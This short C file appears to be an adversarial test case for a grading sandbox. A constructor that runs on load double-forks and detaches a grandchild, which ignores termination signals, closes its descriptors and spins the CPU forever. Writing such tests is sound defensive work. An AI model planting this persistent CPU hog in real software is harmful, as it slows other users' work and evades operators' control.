// attack: a CPU hog in a detached child: double fork + setsid, the grandchild spins forever, ignoring SIGTERM and SIGHUP; the runner goes on as the stub (a classmate graded meanwhile must not slow down) | expect: stub, no process left | base: stub
#define _GNU_SOURCE
#include <signal.h>
#include <unistd.h>

__attribute__((constructor)) static void leave_a_spinner(void)
{
    pid_t pid = fork();
    if (pid == 0) {
        setsid();
        if (fork() == 0) {
            signal(SIGTERM, SIG_IGN);
            signal(SIGHUP, SIG_IGN);
            for (int fd = 0; fd < 64; fd++)
                close(fd);
            for (volatile unsigned long x = 0;; x++)
                continue;
        }
        _exit(0);
    }
}
